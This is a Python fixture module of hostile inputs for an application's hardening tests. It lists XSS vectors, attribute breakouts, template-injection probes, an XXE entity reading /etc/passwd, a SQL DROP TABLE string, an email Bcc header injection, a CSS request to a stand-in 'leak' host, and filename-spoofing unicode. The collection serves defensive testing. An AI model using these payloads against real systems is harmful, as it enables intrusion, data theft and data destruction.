"""Hostile text for the hardening tests: what a visitor can type into a chat
message, put into a page address, a referrer or a language, send as a
User-Agent header, or enter in the email form.

Each payload that would run if it ever became markup (or a link, or a
stylesheet, or a template expression) does something observable: it calls
``alert(1)`` (caught as a dialog) or sets ``window.__pwned = 1``. The rest are
text that must survive as text: direction overrides, zero-width characters,
control characters, template syntax, emoji, right-to-left scripts, and very
long strings.

Plain data (no NUL characters: the protocol and the forms refuse them, and
PostgreSQL cannot store them). ``PAYLOADS`` is the list; ``CATEGORIES`` names
the group each came from.
"""

from __future__ import annotations

# -- markup with event handlers, <script>, and elements that load or run things ----------
HTML = [
    "<script>alert(1)</script>",
    "<script>window.__pwned=1</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=data:,alert(1)></script>",
    "<script>/*</script><svg onload=alert(1)>*/</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"window.__pwned=1\">",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x:y onerror=window.__pwned=1//",
    "<img srcset=x onerror=alert(1)>",
    "<picture><source srcset=x><img src=x onerror=alert(1)></picture>",
    "<svg onload=alert(1)>",
    "<svg/onload=window.__pwned=1>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">click</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>",
    "<body onload=alert(1)>",
    "<body onpageshow=window.__pwned=1>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=window.__pwned=1>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=window.__pwned=1></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<marquee onstart=alert(1)>hi</marquee>",
    "<xss onmouseover=alert(1) style=display:block;position:fixed;inset:0>hover</xss>",
    "<div onpointerenter=window.__pwned=1 style=position:fixed;inset:0>x</div>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form><button formaction=javascript:alert(1)>send</button></form>",
    "<a href=\"javascript:alert(1)\">click me</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">entities</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
]

# -- breaking out of attributes, text areas and other contexts ---------------------------
BREAKOUT = [
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\"><svg onload=window.__pwned=1>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\" autofocus onfocus=\"window.__pwned=1",
    "`onerror=alert(1)`",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot;&gt;&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\"}]}<img src=x onerror=alert(1)>",
    "'; alert(1); //",
    "\\\"; window.__pwned=1; //",
]

# -- URLs that run script or carry markup ------------------------------------------------------
URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:window.__pwned=1",
    " javascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript\u200b:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "https://evil.example/\"><img src=x onerror=alert(1)>",
    "https://evil.example/?q=<script>alert(1)</script>",
    "http://evil.example/#\"onmouseover=\"alert(1)",
    "https://evil.example/a'onclick='window.__pwned=1'",
    "https://user:secret@evil.example/login",
    "//evil.example/x.js",
    "https://evil.example/javascript:alert(1)",
    "https://xn--80ak6aa92e.example/<svg/onload=alert(1)>",
    "https://evil.example/\u202egpj.exe",
]

# -- markdown a renderer might turn into links or images ------------------------------------
MARKDOWN = [
    "[click](javascript:alert(1))",
    "[x](JAVASCRIPT:window.__pwned=1)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![pic](https://evil.example/t.png)",
    "![x](x\"onerror=\"alert(1))",
    "[a](https://ok.example \"title\\\" onmouseover=\\\"alert(1)\")",
    "<https://evil.example/\"onmouseover=\"alert(1)>",
    "**bold** _italic_ `code` <b>bold</b> <i>it</i>",
    "[![x](javascript:alert(1))](javascript:alert(1))",
]

# -- style sheets ---------------------------------------------------------------------------------
CSS = [
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<span style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:red\">cover</span>",
    "\" style=\"position:fixed;inset:0;background:red",
    "x{}body{background:url(\"https://evil.example/leak\")}",
    "@import url(https://evil.example/x.css);",
    "</style><style>*{color:red!important}</style>",
]

# -- template engines (server and client side) --------------------------------------------------
TEMPLATES = [
    "{{7*7}}",
    "${7*7}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ self.__init__.__globals__ }}",
    "${alert(1)}",
    "`${window.__pwned=1}`",
    "{{{'<img src=x onerror=alert(1)>'}}}",
    "[[7*7]]",
    "%{7*7}",
    "{# comment #}{{ '<script>alert(1)</script>' | safe }}",
    "{{ '<img src=x onerror=alert(1)>' }}",
]

# -- unicode direction tricks, invisible and confusable characters --------------------------------
UNICODE = [
    "invoice\u202efdp.exe",
    "admin\u202e\u2066 txt.exe \u2069",
    "\u2066\u2067\u2068 isolates \u2069\u2069\u2069 end",
    "zero\u200bwidth\u200cjoin\u200dbom\ufeffend",
    "<\u200bscript>alert(1)</script>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "＜script＞alert(1)＜/script＞",
    "\u061c arabic letter mark \u200e lrm \u200f rlm",
    "Z\u0335\u0321\u0322a\u0336\u0358l\u0337\u0360g\u0335o\u0334 combining marks",
    "line\u2028separator\u2029paragraph\u0085next",
    "replacement \ufffd and private use \ue000",
]

# -- control characters (never NUL) -------------------------------------------------------------------
CONTROL = [
    "bell\x07 backspace\x08 vtab\x0b formfeed\x0c escape\x1b[31mred\x1b[0m del\x7f",
    "first line\r\nsecond line\rthird line\nfourth",
    "tab\there\tand\there",
    "\x1b]0;title\x07 terminal title",
    "\x01\x02\x03 start of heading",
    "Name\r\nBcc: everyone@example.org",
]

# -- emoji and right-to-left text ----------------------------------------------------------------------
TEXT = [
    "😀🎉👍🏽👨‍👩‍👧‍👦🇫🇮",
    "<img src=x onerror=alert('😀')>",
    "مرحبا بالعالم، أحتاج إلى مساعدة",
    "שלום <img src=x onerror=alert(1)> עולם",
    "سلام ‮ mixed RTL with LTR 123",
    "日本語のテキスト <script>alert(1)</script>",
]

# -- injection into other layers (must stay text) -------------------------------------------------------
OTHER = [
    "'; DROP TABLE chat_event; --",
    "{\"type\":\"event\",\"conversation\":1,\"seq\":1}",
    "__proto__",
    "null",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "'onmouseover='window.__pwned=1'@hostile.example",
    "{{7*7}}@hostile.example",
    "${7*7}@hostile.example",
]

# -- very long strings (the body limit is 4,000 characters) -----------------------------------------------
_IMG = "<img src=x onerror=alert(1)>"
LONG = [
    "A" * 3900,
    (_IMG * (3900 // len(_IMG) + 1))[:3900],
    "https://evil.example/?q=" + "a" * (3900 - 24 - len(_IMG)) + _IMG,
]

CATEGORIES: dict[str, list[str]] = {
    "html": HTML, "breakout": BREAKOUT, "urls": URLS, "markdown": MARKDOWN, "css": CSS, "templates": TEMPLATES,
    "unicode": UNICODE, "control": CONTROL, "text": TEXT, "other": OTHER, "long": LONG,
}

PAYLOADS: list[str] = [p for group in CATEGORIES.values() for p in group]

assert len(PAYLOADS) >= 100, len(PAYLOADS)
assert len(set(PAYLOADS)) == len(PAYLOADS), "duplicate payloads"
assert all("\x00" not in p and p.strip() for p in PAYLOADS)
assert all(len(p) <= 3900 for p in PAYLOADS)
